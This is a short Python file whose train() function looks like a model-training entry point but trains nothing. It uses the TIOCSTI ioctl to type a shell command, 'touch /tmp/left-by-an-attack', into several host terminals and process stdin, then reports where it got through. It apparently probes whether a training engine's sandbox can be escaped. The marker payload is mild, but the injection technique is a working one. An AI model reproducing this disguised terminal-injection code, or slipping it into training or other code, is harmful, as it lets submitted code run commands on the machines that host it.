"""Pushes characters into the terminal that the engine runs in."""

import fcntl
import os


def train(model, train_loader, tune_loader, spec, report):
    push = 0x5412  # TIOCSTI
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/proc/1/fd/0", "/dev/stdin"):
        try:
            terminal = os.open(path, os.O_RDWR | os.O_NONBLOCK)
            for byte in b"touch /tmp/left-by-an-attack\n":
                fcntl.ioctl(terminal, push, bytes([byte]))
        except OSError:
            continue
        print("got through: typed into", path)
    return model
